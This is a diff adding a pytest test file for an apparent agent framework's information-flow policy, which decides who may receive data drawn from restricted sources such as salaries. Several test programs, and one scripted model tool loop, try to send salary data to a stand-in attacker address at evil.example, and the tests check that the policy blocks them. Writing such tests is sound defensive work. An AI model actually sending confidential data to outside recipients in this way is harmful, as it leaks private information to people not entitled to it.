@@ -1,0 +1,137 @@
+"""Who may see a value: what came from a source that not everybody may see reaches nobody else, whoever asked for it."""
+
+from __future__ import annotations
+
+from typing import Any, Literal
+
+import pytest
+
+from agentflow import AgentFlow, AgentflowError, ConfigurationError, Labelled, Provenance, ScriptedProvider, Sink
+
+POLICY = Provenance(
+    rules=[Sink("send", readers_in="to"), Sink("post", readers=["public"])],
+    sources={"salaries": "hr"},
+    readers={"hr": ["*@hr.example", "payroll"]},
+)
+INSIDE = '(send (to "ann@hr.example") (text (value-of (salaries))))'
+OUTSIDE = {
+    "outside": '(send (to "eve@evil.example") (text (value-of (salaries))))',
+    "one_of_several": '(send (to (list "ann@hr.example" "eve@evil.example")) (text (value-of (salaries))))',
+    "in_part": '(send (to "eve@evil.example") (text (format "it is {}" (value-of (salaries)))))',
+    "told_by_a_model": '(send (to "eve@evil.example") (text (value-of (t (q (value-of (salaries)))))))',
+    "as_the_address": '(send (to (format "{}@hr.example.evil" (value-of (salaries)))) (text "hi"))',
+    "published": "(post (text (value-of (salaries))))",
+    "a_tool_without_a_rule": "(search (query (value-of (salaries))))",
+    "bound": '(send (to "eve@evil.example") (text secret))',
+    "both": '(send (to "ann@hr.example") (text (format "{} {}" secret (value-of (salaries)))))',
+}
+
+
+async def run(
+    program: str, policy: Provenance | None, surface: Literal["sexp", "python"] = "sexp", **model: Any
+) -> list[Any]:
+    """What was sent by a program; its model answers with what it is asked, or as ``replies`` say."""
+    sent: list[Any] = []
+
+    async def salaries() -> str:
+        """What everybody earns."""
+        return "Bob 100"
+
+    async def send(to: str | list[str], text: str) -> str:
+        """Send a mail."""
+        sent.append((to, text))
+        return "sent"
+
+    async def post(text: str) -> str:
+        """Publish a text."""
+        sent.append(text)
+        return "posted"
+
+    async def search(query: str) -> str:
+        """Ask a search engine."""
+        sent.append(query)
+        return "nothing"
+
+    async def payroll(text: str) -> str:
+        """Pay."""
+        sent.append(text)
+        return "paid"
+
+    tools = [salaries, send, post, search, payroll]
+    replies = model.get("replies") or (lambda request: request.messages[-1].parts[-1].text)
+    task = '(defatom t (params (q any)) (instructions "{{q}}"))\n' if surface == "sexp" else ""
+    async with AgentFlow(provider=ScriptedProvider(replies), tools=tools, provenance=policy) as flow:
+        secret = Labelled("the code", readers=["boss@work.example"])
+        await flow.run(task + program, bindings={"secret": secret}, surface=surface)
+    return sent
+
+
+async def test_those_who_may_see_it_get_it() -> None:
+    """By the argument that names them, or as the tool itself where no rule says who sees what reaches it; others get what has no restriction."""
+    assert await run(INSIDE, POLICY) == [("ann@hr.example", "Bob 100")]
+    assert await run("(payroll (text (value-of (salaries))))", POLICY) == ["Bob 100"]
+    assert await run('(send (to "eve@evil.example") (text "hi")) (post (text "hi")) (search (query "x"))', POLICY)
+    assert await run('(send (to "boss@work.example") (text secret))', POLICY)
+    assert await run('send(to="ann@hr.example", text=salaries())', POLICY, "python") == [("ann@hr.example", "Bob 100")]
+
+
+@pytest.mark.parametrize("program", OUTSIDE.values(), ids=OUTSIDE)
+async def test_nobody_else_gets_it(program: str) -> None:
+    """Whoever is named, and through whatever the value went; without a policy it is sent."""
+    assert await run(program, None)
+    with pytest.raises(AgentflowError) as caught:
+        await run(program, POLICY)
+    assert caught.value.code == "provenance/readers" and caught.value.details["readers"]
+
+
+async def test_a_model_that_read_it_tells_nobody_else() -> None:
+    """In a tool loop every later call depends on it: to those who may see it, and to nobody else."""
+    calls = [
+        ("salaries", {}),
+        ("send", {"to": "eve@evil.example", "text": "x"}),
+        ("send", {"to": "ann@hr.example", "text": "y"}),
+    ]
+    replies = [{"tool_calls": [{"name": name, "arguments": data}]} for name, data in calls]
+    assert await run('(t (q "go"))', POLICY, replies=[*replies, "done"]) == [("ann@hr.example", "y")]
+
+
+async def test_who_may_see_a_value_says_nothing_of_where_it_may_go() -> None:
+    """A value of the user with readers is the user's: it fills what only the user may fill."""
+    policy = Provenance(rules=[Sink("send", "text", allow=["user"]), Sink("send", readers_in="to")])
+    assert await run('(send (to "boss@work.example") (text secret))', policy)
+    policy = Provenance(rules=[Sink("send", "*", allow=["user"]), Sink("send", "text", readers_in="to")])
+    with pytest.raises(AgentflowError, match="depends on tool:salaries, which may not reach it"):
+        await run('(send (to "a") (text (value-of (salaries))))', policy)
+
+
+async def test_somebody_may_answer_for_it() -> None:
+    """An endorsed value may be seen by anybody."""
+    program = '(send (to "eve@evil.example") (text (endorse secret "it is old")))'
+    assert await run(program, POLICY) == [("eve@evil.example", "the code")]
+
+
+def test_a_narrower_policy_only_narrows() -> None:
+    """Readers of both policies must allow, and a rule of the narrower one cannot say that somebody else sees an argument."""
+    lying = Provenance(rules=[Sink("send", readers=["payroll"])], readers={"hr": ["payroll", "ann@*"]})
+    both = POLICY.narrowed(lying)
+    sources = frozenset(["hr"])
+    for who, hidden in (("eve@evil.example", True), ("bob@hr.example", True), ("ann@hr.example", False)):
+        assert bool(both.hidden("send", "text", sources, {"to": who}, tool=True)) is hidden
+    assert not both.hidden("send", "text", frozenset(["web"]), {"to": "eve"}, tool=True)
+
+
+def test_a_file_says_the_same() -> None:
+    """Readers of sources, and of arguments, in a policy file; what is none is refused."""
+    sinks = [{"tool": "send", "readers_in": "to"}, {"tool": "post", "readers": ["public"]}]
+    table = {"sink": sinks, "sources": {"salaries": "hr"}, "readers": {"hr": ["*@hr.example", "payroll"]}}
+    assert Provenance.from_table(table) == POLICY
+    for wrong in (
+        {"readers": {"hr": "ann"}},
+        {"sink": [{"tool": "send", "readers": [1]}]},
+        {"sink": [{"tool": "a", "reader": "b"}]},
+    ):
+        with pytest.raises(ConfigurationError) as caught:
+            Provenance.from_table(wrong)
+        assert caught.value.code == "provenance/policy"
+    with pytest.raises(ConfigurationError, match="without commas"):
+        Labelled("x", readers=["a,b"])
